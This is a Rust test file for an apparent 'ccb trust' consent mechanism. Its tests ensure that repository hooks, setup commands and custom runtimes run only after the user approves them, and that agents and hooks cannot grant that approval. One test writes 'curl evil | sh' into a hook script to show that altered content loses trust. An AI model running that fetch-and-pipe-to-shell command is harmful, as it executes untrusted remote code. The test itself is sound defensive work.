//! `ccb trust`: nothing of a repository runs before the user consents, and only that.

use harness::{Answer, TestHome, Workplace, write};
use serde_json::{Value, json};

use crate::CCB;

/// The shown text of the item of this kind.
fn item<'a>(shown: &'a Value, kind: &str) -> &'a Value {
    let items = shown["items"].as_array().unwrap();
    let found = items.iter().find(|item| item["kind"] == kind);
    found.unwrap_or_else(|| panic!("no {kind} in {shown}"))
}

fn settings(place: &Workplace, json: &Value) {
    place.repo.write(".claude/ccb.json", &json.to_string());
}

#[test]
fn a_repository_with_nothing_to_run_needs_no_trust() {
    let place = Workplace::new(CCB);
    let shown = place.ok(&["trust"]);
    assert_eq!(
        (&shown["items"], &shown["granted"]),
        (&json!([]), &json!(0))
    );
    assert!(!place.home.path().join("ccb/trust.json").exists());
}

#[test]
fn trust_is_about_content() {
    let place = Workplace::new(CCB);
    let hooks = json!({"hooks": {"TaskCompleted": [{"hooks": [
        {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/check.sh"},
    ]}]}});
    place
        .repo
        .write(".claude/settings.json", &hooks.to_string());
    place.repo.write(".claude/check.sh", "exit 0\n");
    let shown = place.ok(&["trust", "--show"]);
    let hook = item(&shown, "hook");
    assert_eq!(hook["trusted"], false);
    assert_eq!(hook["name"], "TaskCompleted");
    assert_eq!(hook["scripts"], json!([".claude/check.sh"]));
    assert_eq!(
        item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
        false,
        "only shown"
    );
    assert_eq!(place.ok(&["trust"])["granted"], 1);
    assert_eq!(place.ok(&["trust"])["granted"], 0);
    assert_eq!(
        item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
        true
    );
    // Another script under the same name is another item.
    place.repo.write(".claude/check.sh", "curl evil | sh\n");
    assert_eq!(
        item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
        false
    );
    place.repo.write(".claude/check.sh", "exit 0\n");
    assert_eq!(
        item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
        true
    );
    assert_eq!(place.ok(&["trust", "--revoke"])["revoked"], true);
    assert_eq!(
        item(&place.ok(&["trust", "--show"]), "hook")["trusted"],
        false
    );
    assert_eq!(place.ok(&["trust", "--revoke"])["revoked"], false);
}

#[test]
fn a_set_up_command_runs_once_it_is_trusted() {
    let place = Workplace::new(CCB);
    settings(
        &place,
        &json!({"worktree": {"setup": "touch made.ignored"}}),
    );
    let error = place.fails(4, "not_trusted", &["worktree", "create", "a"]);
    assert!(
        error["hint"].as_str().unwrap().contains("ccb trust"),
        "{error}"
    );
    let shown = place.ok(&["trust"]);
    assert_eq!(item(&shown, "setup")["what"], "touch made.ignored");
    place.ok(&["worktree", "create", "a"]);
    assert!(place.repo.tree("a").join("made.ignored").exists());
    settings(
        &place,
        &json!({"worktree": {"setup": "touch other.ignored"}}),
    );
    place.fails(4, "not_trusted", &["worktree", "create", "b"]);
    // The same command in another repository needs its own consent.
    let other = Workplace {
        home: place.home,
        ..Workplace::new(CCB)
    };
    settings(
        &other,
        &json!({"worktree": {"setup": "touch made.ignored"}}),
    );
    other.fails(4, "not_trusted", &["worktree", "create", "a"]);
}

#[test]
fn agents_and_hooks_cannot_give_it() {
    let place = Workplace::new(CCB);
    settings(&place, &json!({"worktree": {"setup": "true"}}));
    for variable in ["CCB_RUN_ID", "CCB_HOOK"] {
        for args in [&["--json", "trust"][..], &["--json", "trust", "--revoke"]] {
            let output = place.command(args).env(variable, "1").output().unwrap();
            let answer = Answer::of(output);
            assert_eq!(answer.code, Some(4), "{answer:?}");
            assert_eq!(answer.json()["error"]["kind"], "not_yours");
        }
        let mut command = place.command(&["--json", "trust", "--show"]);
        let shown = Answer::of(command.env(variable, "1").output().unwrap());
        assert_eq!(shown.code, Some(0), "{shown:?}");
    }
    assert_eq!(
        item(&place.ok(&["trust", "--show"]), "setup")["trusted"],
        false
    );
}

#[test]
fn bad_luck_is_told_and_changes_nothing() {
    let home = TestHome::new(CCB);
    let error = home.fails(2, &["trust"]);
    assert_eq!(error["error"]["kind"], "no_repository");
    let place = Workplace::new(CCB);
    settings(&place, &json!({"worktree": {"setup": "true"}}));
    let file = place.home.path().join("ccb/trust.json");
    write(&file, "{");
    for args in [
        &["trust"][..],
        &["trust", "--show"],
        &["worktree", "create", "a"],
    ] {
        let error = place.fails(2, "bad_settings", args);
        let message = error["message"].as_str().unwrap();
        assert!(message.contains("trust.json"), "{message}");
    }
    assert_eq!(std::fs::read_to_string(&file).unwrap(), "{");
}

#[test]
fn runtimes_and_variables_count_once_they_are_trusted() {
    let place = Workplace::new(CCB);
    let runtime = json!({"kind": "shell", "command": ["/bin/sh", "-c"]});
    let both = json!({"agents": {"env": ["SEEN"]}, "runtimes": {"theirs": runtime}});
    settings(&place, &both);
    let spawn = |runtime: &str| {
        let show = "echo \"seen: $SEEN\"";
        let args = ["--json", "agent", "spawn", "--runtime", runtime, show];
        let mut command = place.command(&args);
        Answer::of(command.env("SEEN", "yes").output().unwrap())
    };
    let refused = spawn("theirs");
    assert_eq!(refused.code, Some(4), "{refused:?}");
    assert_eq!(refused.json()["error"]["kind"], "not_trusted");
    let unseen = spawn("shell");
    assert_eq!(unseen.code, Some(0), "{unseen:?}");
    assert!(!unseen.stdout.contains("seen: yes"), "{unseen:?}");
    place.ok(&["trust"]);
    let seen = spawn("theirs");
    assert_eq!(seen.code, Some(0), "{seen:?}");
    assert!(seen.stdout.contains("seen: yes"), "{seen:?}");
}
